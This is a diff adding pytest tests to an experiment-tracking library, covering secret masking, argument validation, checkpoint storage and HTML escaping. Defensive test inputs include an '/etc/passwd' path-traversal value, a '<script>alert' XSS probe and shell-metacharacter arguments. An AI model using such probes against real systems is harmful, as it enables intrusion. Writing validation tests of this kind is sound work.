+    assert names_in(repo / "journals") == names_in(repo / "tmp") == []
+
+
+SECRET_OPTIONS = ["token", "api-key", "password", "passwd", "secret", "secret-key", "access-key", "access-token",
+                  "auth-token", "api-token", "hf-token", "client-secret"]
+
+
+@pytest.mark.parametrize("name", SECRET_OPTIONS)
+def test_the_values_of_secret_options_are_masked(name):
+    for option in {name, name.replace("-", "_")}:
+        assert replicate.masked_command(["t.py", "--" + option, "hunter two", "x"]) == "t.py --%s '***' x" % option or \
+            replicate.masked_command(["t.py", "--" + option, "hunter two", "x"]) == "t.py --%s *** x" % option
+        assert "hunter" not in replicate.masked_command(["t.py", "--%s=hunter two" % option])
+        assert replicate.masked_command(["t.py", "--%s=hunter" % option, "b"]) == "t.py --%s=*** b" % option
+        assert "hunter" not in replicate.masked_command(["--" + option.upper(), "hunter"])
+        assert "hunter" not in replicate.masked_command(["--" + option, "-hunter"])
+
+
+@pytest.mark.parametrize("arguments", [["--pad-token", "0"], ["--pad-token=0"], ["--eos_token=</s>"], ["--tokenizer", "x"],
+                                       ["--token-count=5"], ["--secretary", "bob"], ["--max-tokens", "100"],
+                                       ["a b", "it's", "", "$HOME", "--x=a;b", "é"], ["--no-password-check", "y"]])
+def test_other_arguments_are_quoted_as_a_shell_reads_them(arguments):
+    import shlex
+    command = replicate.masked_command(["train.py"] + arguments)
+    assert shlex.split(command) == ["train.py"] + arguments and "***" not in command
+
+
+@pytest.mark.parametrize("secret", ["AKIAIOSFODNN7EXAMPLE", "ASIAIOSFODNN7EXAMPLE", "hf_" + "aB3" * 11, "ghp_" + "x1" * 18,
+                                    "gho_" + "x1" * 18, "sk-" + "a1B" * 16, "sk-proj-" + "a-1_" * 10,
+                                    "github_pat_" + "a1_" * 20])
+def test_words_of_the_shape_of_keys_are_masked_and_such_params_draw_a_warning(project, repo, capsys, secret):
+    for argument in (secret, "--config=" + secret, "key=%s,b=1" % secret, "a b " + secret):
+        command = replicate.masked_command(["train.py", argument, "--lr", "0.1"])
+        assert secret not in command and secret[-8:] not in command and "***" in command and command.endswith("--lr 0.1")
+    replicate.init(params={"fine": "skate-board", "mine": secret}, quiet=True)
+    err = capsys.readouterr().err
+    assert err.count("\n") == 1 and "'mine'" in err and "secret" in err and secret not in err
+    assert stored_documents(repo)[0]["params"]["mine"] == secret
+
+
+def test_the_command_of_a_real_run(project, repo):
+    (project / "sub").mkdir()
+    (project / "sub" / "train.py").write_text("import replicate\nreplicate.init(quiet=True)\n")
+    for program, cwd in (("train.py", "sub"), (str(project / "sub" / "train.py"), ".")):
+        subprocess.run([sys.executable, program, "--lr", "0.1", "--api-key", "hunter2", "two words", "--pad-token=1"],
+                       cwd=str(project / cwd), check=True, timeout=60)
+    commands = [item.command for item in replicate.experiments.list()]
+    assert commands == ["train.py --lr 0.1 --api-key *** 'two words' --pad-token=1",
+                        "sub/train.py --lr 0.1 --api-key *** 'two words' --pad-token=1"]
+    assert b"hunter2" not in b"".join(tree(repo).values())
+
+
+class Hostile:
+    """An object that fails at whatever is tried with it."""
+
+    def __getattribute__(self, name):
+        raise RuntimeError("no " + name)
+
+    def __repr__(self):
+        raise RuntimeError("no repr")
+
+    __eq__ = __str__ = __bool__ = __len__ = __iter__ = __hash__ = __repr__
+
+
+class BadArray:
+    """What a tensor without data is: it has the method, and the method fails."""
+
+    def tolist(self):
+        raise NotImplementedError("Cannot copy out of meta tensor; no data!")
+
+
+@pytest.mark.parametrize("arguments, words", [
+    ({"step": "three"}, "step"), ({"step": 1.5}, "step"), ({"step": True}, "step"), ({"step": 1 << 70}, "step"),
+    ({"step": []}, "step"), ({"step": BadArray()}, "step"), ({"step": Hostile()}, "step"),
+    ({"primary_metric": "loss"}, "primary_metric"), ({"primary_metric": ("loss", "up")}, "primary_metric"),
+    ({"primary_metric": ("loss",)}, "primary_metric"), ({"primary_metric": (1, "minimize")}, "primary_metric"),
+    ({"primary_metric": ("loss", Hostile())}, "primary_metric"), ({"primary_metric": Hostile()}, "primary_metric"),
+    ({"primary_metric": ("", "minimize")}, "primary_metric"), ({"primary_metric": ("loss", [])}, "primary_metric"),
+    ({"path": "missing.pth"}, "missing.pth"), ({"path": ""}, "path is empty"), ({"path": 5}, "path"),
+    ({"path": "../outside"}, "outside"), ({"path": "/etc/passwd"}, "outside"), ({"path": b"model"}, "path"),
+    ({"path": "a\0b"}, "path"), ({"path": ".git"}, "never saved"), ({"path": "empty"}, "empty"),
+    ({"path": Hostile()}, ""), ({"path": "fifo"}, "fifo"),
+    ({"metrics": {"good": 1, "bad": object()}}, "bad"), ({"metrics": {"good": 1, 5: 1}}, "5"),
+    ({"metrics": {"good": 1, ("a", "b"): 1}}, "a"), ({"metrics": {"good": 1, "bad": BadArray()}}, ""),
+    ({"metrics": {"good": 1, "bad": Hostile()}}, ""), ({"metrics": {"good": 1, "bad": {1, 2}}}, "bad"),
+    ({"metrics": {"good": 1, "bad": 10 ** 5000}}, "bad"), ({"metrics": {"good": 1, "bad": b"x"}}, "bad"),
+    ({"metrics": [1]}, "metrics"), ({"metrics": 5}, "metrics"), ({"metrics": "loss"}, "metrics"),
+    ({"metrics": Hostile()}, "metrics")])
+def test_wrong_arguments_never_raise_and_the_rest_is_recorded(project, repo, capsys, arguments, words):
+    (project / ".git").mkdir()
+    (project / ".git" / "config").write_text("x")
+    (project / "empty").mkdir()
+    (project / "model").write_text("weights")
+    os.mkfifo(str(project / "fifo"))
+    (project.parent / "outside").write_text("x")
+    experiment = replicate.init(quiet=True)
+    capsys.readouterr()
+    good = {"path": "model", "step": 7, "metrics": {"good": 1}, "primary_metric": ("good", "minimize")}
+    checkpoint = experiment.checkpoint(quiet=True, **dict(good, **arguments))
+    message = capsys.readouterr().err
+    assert message.startswith("═══╡ Checkpoint %s: " % checkpoint.short_id()) and words in message
+    assert "formatting" not in message and "The rest of it was recorded" in message
+    experiment.stop()
+    stored, = stored_documents(repo)[0]["checkpoints"]
+    assert stored["id"] == checkpoint.id
+    for name, value in good.items():
+        if name == "primary_metric":
+            value = {"name": "good", "goal": "minimize"}
+        if name not in arguments:
+            assert stored[name] == value
+    if type(arguments.get("metrics")) is dict:
+        assert stored["metrics"] == {"good": 1}
+    if "path" in arguments:
+        assert stored["path"] is None and names_in(repo / "checkpoints") == []
+    if "step" in arguments:
+        assert stored["step"] == 0
+    if "primary_metric" in arguments:
+        assert stored["primary_metric"] is None
+    assert experiment.checkpoint(metrics={"next": 1}, quiet=True).step == stored["step"] + 1
+
+
+@pytest.mark.parametrize("arguments", [
+    {"params": [1]}, {"params": "x"}, {"params": {"a": object()}}, {"params": {1: 2}}, {"params": {"a": {1, 2}}},
+    {"params": {"a": BadArray()}}, {"params": {"a": 10 ** 5000}}, {"path": ""}, {"path": 5}, {"path": "missing"},
+    {"path": ".."}, {"path": "/"}, {"path": "../other"}, {"path": b"x"}, {"path": "a\0b"}, {"path": ".git"},
+    {"path": True}])
+def test_wrong_arguments_to_init_raise_and_leave_nothing(project, repo, arguments):
+    (project / ".git").mkdir()
+    (project.parent / "other").mkdir()
+    with pytest.raises(replicate.ReplicateError) as caught:
+        replicate.init(**arguments)
+    assert isinstance(caught.value, (TypeError, ValueError))
+    assert not repo.exists() or set(tree(repo)) <= {"repository.json"}
+    assert replicate._recorders == []
+
+
+def deep_list(depth):
+    """A list nested so many levels."""
+    value = 1
+    for _ in range(depth):
+        value = [value]
+    return value
+
+
+def test_values_that_nest_too_deeply_or_hold_themselves(repo, capsys):
+    loop = []
+    loop.append(loop)
+    for value in (deep_list(60), deep_list(100000), loop, {"a": loop}):
+        with pytest.raises(replicate.ReplicateError, match="deep"):
+            replicate.init(params={"x": value})
+    experiment = replicate.init(quiet=True)
+    for value in (deep_list(60), deep_list(100000), loop):
+        experiment.checkpoint(metrics={"x": value, "y": 1}, quiet=True)
+    assert capsys.readouterr().err.count("deep") == 3
+    experiment.stop()
+    assert [item["metrics"] for item in stored_documents(repo)[0]["checkpoints"]] == [{"y": 1}] * 3
+
+
+def test_steps_count_on(repo):
+    experiment = replicate.init(quiet=True)
+    steps = [experiment.checkpoint(quiet=True).step, experiment.checkpoint(quiet=True).step,
+             experiment.checkpoint(step=10, quiet=True).step, experiment.checkpoint(quiet=True).step,
+             experiment.checkpoint(step=-5, quiet=True).step, experiment.checkpoint(quiet=True).step,
+             experiment.checkpoint(step=0, quiet=True).step, experiment.checkpoint(quiet=True).step]
+    assert steps == [0, 1, 10, 11, -5, -4, 0, 1]
+    experiment.stop()
+    assert [item["step"] for item in stored_documents(repo)[0]["checkpoints"]] == steps
+    assert replicate.experiments.get(experiment.id).checkpoint(quiet=True).step == 2
+
+
+def test_the_largest_step_is_not_counted_beyond(repo):
+    """The format's steps are 64-bit integers: a larger one makes the whole document unreadable for the peer."""
+    experiment = replicate.init(quiet=True)
+    experiment.checkpoint(step=(1 << 63) - 1, quiet=True)
+    experiment.checkpoint(quiet=True)
+    experiment.stop()
+    assert all(item["step"] < 1 << 63 for item in stored_documents(repo)[0]["checkpoints"])
+
+
+def test_a_clock_that_is_set_back_does_not_reorder_checkpoints(repo, monkeypatch):
+    experiment = replicate.init(quiet=True)
+    experiment.checkpoint(metrics={"n": 0}, quiet=True)
+    now = time.time()
+    monkeypatch.setattr(replicate, "timestamp", lambda seconds=None, real=replicate.timestamp:
+                        real(now - 3600 if seconds is None else seconds))
+    for number in range(1, 50):
+        experiment.checkpoint(metrics={"n": number}, quiet=True)
+    assert experiment.latest().metrics == {"n": 49}
+    created = [item.created for item in experiment.checkpoints]
+    assert created == sorted(created) and len(set(created)) == 50
+
+
+def test_much_code_draws_one_warning_that_names_the_largest(project, repo, monkeypatch, capsys):
+    with open(str(project / "data.bin"), "wb") as file:
+        file.truncate(3 << 20)
+    (project / "sub").mkdir()
+    with open(str(project / "sub/weights.bin"), "wb") as file:
+        file.truncate(5 << 20)
+    (project / "train.py").write_text("pass")
+    replicate.init(path=".", quiet=True)
+    assert "saves" not in capsys.readouterr().err
+    monkeypatch.setattr(replicate, "LARGE_CODE_BYTES", 4 << 20)
+    replicate.init(path=".", quiet=True)
+    lines = [line for line in capsys.readouterr().err.splitlines() if "saves" in line]
+    assert len(lines) == 1 and ".replicateignore" in lines[0]
+    assert lines[0].index("sub/weights.bin") < lines[0].index("data.bin")
+    (project / ".replicateignore").write_text("*.bin\n")
+    replicate.init(path=".", quiet=True)
+    assert "saves" not in capsys.readouterr().err
+
+
+def test_a_disk_that_is_nearly_full_draws_one_warning(small_disk):
+    disk = small_disk(4096)
+    (disk / "replicate.yaml").write_text("repository: file://repo\n")
+    done = run_script("""
+        import replicate
+        open("model", "wb").write(b"x" * 1000)
+        experiment = replicate.init(quiet=True)
+        for number in range(5):
+            experiment.checkpoint(path="model", quiet=True)
+        """, cwd=str(disk))
+    assert done.stderr.count("are free on the disk") == 1 and len(done.stderr.splitlines()) == 1
+
+
+def spoil_before_reading(monkeypatch, spoil):
+    """Have spoil() called after the files were found and before they are read."""
+    check = replicate.warn_if_disk_is_low
+
+    def spoiled(*arguments):
+        spoil()
+        check(*arguments)
+    monkeypatch.setattr(replicate, "warn_if_disk_is_low", spoiled)
+
+
+@pytest.mark.parametrize("size", [1000, 600000, 9000000])
+def test_a_file_that_shrinks_or_grows_while_it_is_saved(project, repo, monkeypatch, capsys, size):
+    (project / "files").mkdir()
+    for name in ("a", "b", "c"):
+        (project / "files" / name).write_bytes(name.encode() * size)
+
+    def spoil():
+        os.truncate(str(project / "files/a"), size // 3)
+        with open(str(project / "files/c"), "ab") as file:
+            file.write(b"more")
+    experiment = replicate.init(quiet=True)
+    spoil_before_reading(monkeypatch, spoil)
+    checkpoint = experiment.checkpoint(path="files", metrics={"x": 1}, quiet=True)
+    err = capsys.readouterr().err
+    assert "files/a became shorter" in err and "files/b" not in err and err.count("became shorter") == 1
+    experiment.stop()
+    with tarfile.open(str(repo / "checkpoints" / (checkpoint.id + ".tar.gz"))) as tar:
+        contents = {member.name[65:]: tar.extractfile(member).read() for member in tar}
+    assert contents["files/b"] == b"b" * size and contents["files/c"] == b"c" * size
+    assert contents["files/a"].rstrip(b"\0") == b"a" * (size // 3)
+
+
+def test_a_file_that_vanishes_while_it_is_saved(project, repo, monkeypatch, capsys):
+    (project / "files").mkdir()
+    for name in ("a", "b"):
+        (project / "files" / name).write_text(name)
+    experiment = replicate.init(quiet=True)
+    spoil_before_reading(monkeypatch, (project / "files/a").unlink)
+    checkpoint = experiment.checkpoint(path="files", metrics={"x": 1}, quiet=True)
+    assert "files/a is not saved" in capsys.readouterr().err
+    assert checkpoint.open("files/b").read() == b"b"
+    with pytest.raises(replicate.DoesNotExist):
+        checkpoint.open("files/a")
+    experiment.stop()
+    assert stored_documents(repo)[0]["checkpoints"][0]["metrics"] == {"x": 1}
+
+
+def test_nothing_on_stderr_can_break_training(repo):
+    """stderr closed, or a full device."""
+    source = """
+        import os, sys, replicate
+        if sys.argv[1] == "closed":
+            sys.stderr.close()
+        elif sys.argv[1] == "none":
+            sys.stderr = None
+        else:
+            os.dup2(os.open("/dev/full", os.O_WRONLY), 2)
+        experiment = replicate.init()
+        experiment.checkpoint(path="missing", metrics={"n": 1})
+        experiment.stop()
+        print("end")
+        """
+    for how in ("closed", "none", "full"):
+        assert run_script(source, how, check=False).stdout == "end\n"
+    assert [len(item["checkpoints"]) for item in stored_documents(repo)] == [1, 1, 1]
+
+
+def test_a_ctrl_c_at_exit_leaves_the_rest_to_the_next_command(project, repo):
+    """Compression of the last file is cut short; the file is whole and readable."""
+    (project / "model").write_bytes(os.urandom(1 << 16) * 40 + b"0123456789abcdef" * (16 << 20))
+    process = start_script("""
+        import sys, replicate
+        experiment = replicate.init(quiet=True)
+        print(experiment.checkpoint(path="model", metrics={"n": 1}, quiet=True).id, flush=True)
+        print(experiment.checkpoint(metrics={"n": 2}, quiet=True).id, flush=True)
+        print("ready", flush=True)
+        """)
+    ids = [process.stdout.readline().strip() for _ in range(3)][:2]
+    wait_until(lambda: names_in(repo / "tmp"))
+    process.send_signal(signal.SIGINT)
+    finish(process)
+    assert list(listed(repo).values()) == [ids]
+    assert replicate.experiments.list()[0].checkpoints[0].open("model").read() == (project / "model").read_bytes()
+    run("ls")
+    assert [item["id"] for item in stored_documents(repo)[0]["checkpoints"]] == ids
+    assert names_in(repo / "journals") == []
+
+
+# ------------------------------------------------------------------------------------------------------------------
+# 9  Library
+# ------------------------------------------------------------------------------------------------------------------
+
+def test_a_run_from_beginning_to_end(project, repo, capsys):
+    (project / "train.py").write_text("print('hello')\n")
+    (project / "model.pth").write_bytes(b"first")
+    with replicate.init(path="train.py", params={"lr": 0.1, "layers": [1, 2], "none": None}) as experiment:
+        first = experiment.checkpoint(path="model.pth", step=3, metrics={"loss": 0.5}, primary_metric=("loss", "minimize"))
+        (project / "model.pth").write_bytes(b"second")
+        second = experiment.checkpoint(path="model.pth", metrics={"loss": 0.7}, primary_metric=("loss", "minimize"))
+    lines = capsys.readouterr().err.splitlines()
+    assert lines == [
+        "═══╡ Experiment %s: recording train.py to file://%s" % (experiment.short_id(), repo),
+        "═══╡ Checkpoint %s at step 3: saved model.pth to file://%s" % (first.short_id(), repo),
+        "═══╡ Checkpoint %s at step 4: saved model.pth to file://%s" % (second.short_id(), repo)]
+    (project / "train.py").write_text("changed")
+    found = replicate.experiments.get(experiment.id[:8])
+    assert found.id == experiment.id and found.params == {"lr": 0.1, "layers": [1, 2], "none": None}
+    assert found.path == "train.py" and found.short_id() == found.id[:7]
+    assert [item.step for item in found.checkpoints] == found.checkpoints.step == [3, 4]
+    assert found.best().id == first.id and found.latest().id == second.id
+    assert found.primary_metric() == {"name": "loss", "goal": "minimize"}
+    assert found.duration == second.created - experiment.created > datetime.timedelta(0)
+    assert found.created.tzinfo is not None and found.created.utcoffset() == datetime.timedelta(0)
+    assert abs((datetime.datetime.now(datetime.timezone.utc) - found.created).total_seconds()) < 60
+    assert first.open("model.pth").read() == b"first" and second.open("./model.pth").read() == b"second"
+    assert first.open("train.py").read() == b"print('hello')\n"
+    with pytest.raises(replicate.DoesNotExist, match="nothing"):
+        first.open("nothing")
+    found.checkpoints[0].checkout("one", quiet=True)
+    assert tree("one") == {"train.py": b"print('hello')\n", "model.pth": b"first"}
+    found.checkout("two", quiet=True)  # the best
+    assert tree("two") == tree("one")
+    found.checkpoints[1].checkout("one", quiet=True)
+    assert tree("one")["model.pth"] == b"second"
+    assert (project / "train.py").read_text() == "changed" and capsys.readouterr().err == ""
+
+
+def test_list_is_in_order_of_time_and_takes_a_filter(repo):
+    write_repository(repo, experiment_document(hex_id("3e"), created="2006-01-02T00:00:00Z", params={"x": 1}),
+                     experiment_document(hex_id("1e"), created="2006-01-02T02:00:00+03:00", params={"x": 2}),
+                     experiment_document(hex_id("2e"), created="2006-01-02T00:00:00.000000001Z", params={"x": 3}))
+    found = replicate.experiments.list()
+    assert [item.short_id()[:2] for item in found] == ["1e", "3e", "2e"]
+    assert isinstance(found, replicate.ExperimentList) and isinstance(found[1:], replicate.ExperimentList)
+    assert [item.params["x"] for item in found[::-1]] == [3, 1, 2] and isinstance(found[0], replicate.Experiment)
+    assert [item.id for item in replicate.experiments.list(filter=lambda item: item.params["x"] > 1)] == [
+        hex_id("1e"), hex_id("2e")]
+    with pytest.raises(replicate.ReplicateError):
+        replicate.experiments.list("x > 1")
+    with pytest.raises(ZeroDivisionError):
+        replicate.experiments.list(lambda item: 1 / 0)
+
+
+def test_get(repo):
+    write_repository(repo, experiment_document("ab1" + "0" * 61, checkpoints=[checkpoint_document("cd" + "0" * 62)]),
+                     experiment_document("ab2" + "0" * 61))
+    (repo / "metadata/experiments" / (hex_id("ef") + ".json")).write_text("{")
+    get = replicate.experiments.get
+    assert get("ab1").id == "ab1" + "0" * 61 and get("ab2" + "0" * 61).id == "ab2" + "0" * 61
+    for prefix, words in (("ab", "ambiguous"), ("", "empty"), ("cd", "not found"), ("zz", "not found"),
+                          ("../ab", "not found"), ("ab1*", "not found")):
+        with pytest.raises(replicate.DoesNotExist, match=words):
+            get(prefix)
+    with pytest.raises(replicate.ReadError, match="efffff"):
+        get("ef")
+    for wrong in (5, None, b"ab1", ["ab1"]):
+        with pytest.raises((TypeError, replicate.ReplicateError)):
+            get(wrong)
+
+
+def test_best_and_latest(repo):
+    def made(*values, goal="minimize", first=None):
+        items = [checkpoint_document(hex_id("%02x" % number), step=number, metrics={"loss": value},
+                                     created="2006-01-02T00:00:%02dZ" % number, primary=("loss", goal))
+                 for number, value in enumerate(values)]
+        if first:
+            items.insert(0, first)
+        return replicate.Experiment(experiment_document(hex_id("1e"), checkpoints=items))
+
+    assert made(3, 1, 2).best().step == 1 and made(3, 1, 2, goal="maximize").best().step == 0
+    assert made(1, 1.0, 2).best().step == 1  # of equals the latest
+    assert made("[NaN]", 5, None, "x", True).best().step == 1
+    assert made("[-Infinity]", 5).best().step == 0 and made("[+Infinity]", 5, goal="maximize").best().step == 0
+    assert made("[NaN]", None).best() is None and made().best() is None and made().latest() is None
+    assert made(3, 1, first=checkpoint_document(hex_id("aa"), step=9)).best().step == 1
+    assert made(3, 1).latest().step == 1
+    late = checkpoint_document(hex_id("aa"), step=9, created="2006-01-02T00:00:00.5+00:00")
+    assert made(3, first=late).latest().step == 9 and made(3, 2, first=late).latest().step == 1
+    assert made().duration is None
+
+
+def test_refresh_and_delete(project, repo):
+    (project / "model").write_text("x")
+    experiment = replicate.init(path="model", quiet=True)
+    experiment.checkpoint(path="model", metrics={"n": 1}, quiet=True)
+    other = replicate.Project().experiments.get(experiment.id)
+    experiment.checkpoint(metrics={"n": 2}, quiet=True)
+    assert len(other.checkpoints) == 1
+    other.refresh()
+    assert other.checkpoints.metrics["n"] == [1, 2]
+    experiment.stop()
+    other.refresh()
+    assert not other.is_running()
+    other.delete()
+    assert list(tree(repo)) == ["repository.json"]
+    with pytest.raises(replicate.DoesNotExist):
+        experiment.refresh()
+    other.delete()  # twice is no error
+    with pytest.raises(replicate.DoesNotExist):
+        replicate.experiments.get(experiment.id)
+
+
+def test_deleting_a_list_deletes_all_of_it_and_no_more(project, repo):
+    for number in range(4):
+        with replicate.init(params={"n": number}, quiet=True) as experiment:
+            experiment.checkpoint(metrics={"n": number}, quiet=True)
+    replicate.experiments.list()[1:3].delete()
+    assert [item.params["n"] for item in replicate.experiments.list()] == [0, 3]
+    assert len(tree(repo)) == 3
+
+
+def test_a_checkpoint_after_delete_is_one_error_and_writes_nothing(repo, capsys):
+    experiment = replicate.init(quiet=True)
+    experiment.checkpoint(metrics={"n": 1}, quiet=True)
+    experiment.delete()
+    for number in range(5):
+        assert experiment.checkpoint(metrics={"n": number}, quiet=True).metrics == {"n": number}
+    experiment.stop()
+    assert list(tree(repo)) == ["repository.json"]
+    assert len(capsys.readouterr().err.splitlines()) == 1
+
+
+def test_slices_of_checkpoints_and_their_columns(repo):
+    with replicate.init(quiet=True) as experiment:
+        for number in range(6):
+            metrics = {"loss": 6 - number, "only": "text"} if number == 2 else {"loss": 6 - number}
+            experiment.checkpoint(metrics=metrics, step=number * 10, primary_metric=("loss", "minimize"), quiet=True)
+    checkpoints = replicate.experiments.get(experiment.id).checkpoints
+    assert isinstance(checkpoints[1:], replicate.CheckpointList) and isinstance(checkpoints[0], replicate.Checkpoint)
+    assert checkpoints.metrics["loss"] == [6, 5, 4, 3, 2, 1] and checkpoints.step == [0, 10, 20, 30, 40, 50]
+    assert checkpoints[::2].metrics["loss"] == [6, 4, 2] and checkpoints[1:3].step == [10, 20]
+    assert checkpoints.metrics["only"] == [None, None, "text", None, None, None]
+    assert checkpoints.metrics["absent"] == [None] * 6 and sorted(checkpoints.metrics) == ["loss", "only"]
+    assert checkpoints[:3].best().step == 20 and checkpoints[:3].latest().step == 20
+    assert checkpoints[6:] == [] and checkpoints[6:].best() is None and checkpoints[6:].step == []
+
+
+def test_project_with_a_repository_and_a_directory(tmp_path, repo):
+    (tmp_path / "elsewhere").mkdir()
+    (tmp_path / "elsewhere" / "code.py").write_text("pass")
+    project = replicate.Project(repository="file://%s/far" % tmp_path, directory=str(tmp_path / "elsewhere"))
+    experiment = project.experiments.create(path="code.py", params={"x": 1}, quiet=True)
+    experiment.checkpoint(path="code.py", metrics={"y": 2}, quiet=True)
+    experiment.stop()
+    assert not repo.exists()
+    assert [item.id for item in project.experiments.list()] == [experiment.id]
+    assert stored_documents(tmp_path / "far")[0]["params"] == {"x": 1}
+    project.experiments.get(experiment.id[:9]).checkpoints[0].checkout("out", quiet=True)
+    assert tree("out") == {"code.py": b"pass"}
+    with pytest.raises(replicate.ReplicateError):
+        replicate.Project(directory=str(tmp_path / "missing"))
+    for url in ("nonsense", "ftp://x/y", "file://", "s3://"):
+        with pytest.raises(replicate.RepositoryConfigurationError):
+            replicate.Project(repository=url)
+
+
+def test_which_repository_is_used(project, repo, tmp_path, monkeypatch):
+    (project / "deep/er").mkdir(parents=True)
+    monkeypatch.chdir(project / "deep/er")
+    replicate.init(quiet=True).stop()
+    assert len(stored_documents(repo)) == 1
+    monkeypatch.setenv("REPLICATE_REPOSITORY", "file://%s/env" % tmp_path)
+    replicate.init(quiet=True).stop()
+    assert len(stored_documents(tmp_path / "env")) == 1 and len(stored_documents(repo)) == 1
+    replicate.Project(repository="file://%s/given" % tmp_path).experiments.create(quiet=True).stop()
+    assert len(stored_documents(tmp_path / "given")) == 1 and len(stored_documents(tmp_path / "env")) == 1
+
+
+def test_the_embedded_default_repository_is_announced_in_one_line(tmp_path, capsys, monkeypatch):
+    directory = tmp_path / "project"
+    with pytest.raises(replicate.ConfigNotFound, match="replicate.init"):
+        replicate.experiments.list()
+    assert list(directory.iterdir()) == []
+    (directory / "train.py").write_text("pass")
+    replicate.init(path=".").stop()
+    lines = capsys.readouterr().err.splitlines()
+    assert len([line for line in lines if "No replicate.yaml" in line]) == 1
+    assert str(directory / ".replicate/storage") in lines[0] and len(lines) == 2
+    assert len(stored_documents(directory / ".replicate/storage")) == 1
+    (directory / "sub").mkdir()
+    monkeypatch.chdir(directory / "sub")
+    replicate.init(path="train.py").stop()  # found from below, and no longer announced
+    assert len(capsys.readouterr().err.splitlines()) == 1
+    assert len(replicate.experiments.list()) == 2
+    with tarfile.open(str(next((directory / ".replicate/storage/experiments").iterdir()))) as tar:
+        assert [name[65:] for name in tar.getnames()] == ["train.py"]
+
+
+def test_wrong_arguments_make_no_default_repository(tmp_path, capsys):
+    for arguments in ({"path": "missing"}, {"params": 5}):
+        with pytest.raises(replicate.ReplicateError):
+            replicate.init(**arguments)
+    assert list((tmp_path / "project").iterdir()) == [] and "recording into" not in capsys.readouterr().err
+
+
+def test_paths_are_relative_to_the_project_and_absolute_ones_inside_it_are_taken(project, repo, monkeypatch, tmp_path):
+    (project / "sub").mkdir()
+    (project / "sub/model").write_text("weights")
+    (tmp_path / "link").symlink_to(project)
+    monkeypatch.chdir(project / "sub")
+    experiment = replicate.init(path=str(project / "sub"), quiet=True)
+    assert experiment.path == "sub"
+    for path in (str(project / "sub/model"), "sub/model", "./sub/../sub/model", project / "sub/model",
+                 str(tmp_path / "link/sub/model")):
+        checkpoint = experiment.checkpoint(path=path, quiet=True)
+        assert checkpoint.path == "sub/model" and checkpoint.open("sub/model").read() == b"weights"
+    assert experiment.checkpoint(path=str(project), quiet=True).path == "."
+    experiment.stop()
+    assert [item["path"] for item in stored_documents(repo)[0]["checkpoints"]] == ["sub/model"] * 5 + ["."]
+    assert {type(item["path"]) for item in stored_documents(repo)[0]["checkpoints"]} == {str}
+
+
+def test_the_whole_project_is_saved_without_its_repository(project, repo):
+    (project / "train.py").write_text("pass")
+    for number in range(2):
+        experiment = replicate.init(path=".", quiet=True)
+        checkpoint = experiment.checkpoint(path=".", quiet=True)
+        checkpoint.checkout("out%d" % number, quiet=True)
+        assert sorted(tree("out%d" % number))[-2:] == ["replicate.yaml", "train.py"]
+        assert not [name for name in tree("out%d" % number) if "repo" in name and name != "replicate.yaml"
+                    and not name.startswith("out")]
+        experiment.stop()
+
+
+def test_an_open_file_can_be_read_in_pieces_and_sought(project):
+    content = os.urandom(1000) * 9000
+    (project / "model").write_bytes(content)
+    checkpoint = replicate.init(quiet=True).checkpoint(path="model", quiet=True)
+    with checkpoint.open("model") as file:
+        assert file.read(10) == content[:10]
+        file.seek(-100, 2)
+        assert file.read() == content[-100:] and file.readable()
+        file.seek(0)
+        assert zlib.crc32(file.read()) == zlib.crc32(content)
+
+
+def test_files_that_are_gone(project, repo):
+    (project / "model").write_text("x")
+    with replicate.init(quiet=True) as experiment:
+        checkpoint = experiment.checkpoint(path="model", quiet=True)
+        bare = experiment.checkpoint(metrics={"x": 1}, quiet=True)
+    (repo / "checkpoints" / (checkpoint.id + ".tar.gz")).unlink()
+    for use in (lambda: checkpoint.open("model"), lambda: checkpoint.checkout("out", quiet=True)):
+        with pytest.raises(replicate.DoesNotExist, match="gone"):
+            use()
+    with pytest.raises(replicate.DoesNotExist, match="no files"):
+        bare.checkout("out", quiet=True)
+    assert not os.path.exists("out") and len(replicate.experiments.list()[0].checkpoints) == 2
+    (repo / "checkpoints" / (checkpoint.id + ".tar.gz")).write_bytes(b"\x1f\x8b not gzip")
+    with pytest.raises(replicate.ReadError):
+        checkpoint.open("model")
+
+
+HOSTILE_TEXT = "<script>alert('x')</script>&\"\x1b[31m\u202e"
+
+
+def test_html_escapes_hostile_text(project, repo):
+    write_repository(repo, experiment_document(
+        hex_id("1e"), params={HOSTILE_TEXT: HOSTILE_TEXT, "list": [HOSTILE_TEXT], "d": {"k": HOSTILE_TEXT}},
+        host=HOSTILE_TEXT, user=HOSTILE_TEXT, command=HOSTILE_TEXT, checkpoints=[checkpoint_document(
+            hex_id("1c"), metrics={HOSTILE_TEXT: HOSTILE_TEXT, "loss": 0.25}, path=HOSTILE_TEXT,
+            primary=("loss", "minimize"))]))
+    experiments = replicate.experiments.list()
+    for item in (experiments, experiments[0], experiments[0].checkpoints, experiments[0].checkpoints[0]):
+        html = item._repr_html_()
+        assert html.startswith("<table>") and "<script" not in html and "\x1b" not in html and "\u202e" not in html
+        assert "&lt;script&gt;" in html and "alert('x')" not in html
+    html = experiments[0]._repr_html_()
+    assert hex_id("1e") in html and "0.25" in html and "(best)" in html
+
+
+def test_html_of_empty_and_partial_documents():
+    bare = replicate.Experiment({"id": hex_id("1e"), "created": "2006-01-02T00:00:00Z"})
+    assert hex_id("1e") in bare._repr_html_() and "<table>" in replicate.ExperimentList()._repr_html_()
+    assert "<table>" in replicate.CheckpointList()._repr_html_()
+    assert bare.params == {} and bare.checkpoints == [] and bare.python_packages == {} and bare.host is None
+    assert repr(bare) == "<Experiment 1eeeeee 0 checkpoints>"
+
+
+def test_exceptions_have_one_root():
+    for name in ("DoesNotExist", "ConfigNotFound", "ReadError", "WriteError", "RepositoryConfigurationError",
+                 "IncompatibleRepositoryVersion", "CorruptedRepositorySpec"):
+        assert issubclass(getattr(replicate, name), replicate.ReplicateError)
+    assert set(replicate.__all__) <= set(dir(replicate))
+
+
+@pytest.fixture
+def pyplot(monkeypatch):
+    """matplotlib without a screen."""
+    monkeypatch.setenv("MPLBACKEND", "Agg")
+    matplotlib = pytest.importorskip("matplotlib", reason="plots are drawn with matplotlib")
+    matplotlib.use("Agg", force=True)
+    from matplotlib import pyplot
+    yield pyplot
+    pyplot.close("all")
+
+
+def plotted_repository(repo):
+    """Three experiments: with losses, with a gap and other kinds of values, and without any."""
+    def checkpoints(letter, *values):
+        return [checkpoint_document(hex_id(letter + "%x" % number), step=number * 10, metrics={"loss": value, "acc": number},
+                                    created="2006-01-02T15:00:%02dZ" % number, primary=("loss", "minimize"))
+                for number, value in enumerate(values)]
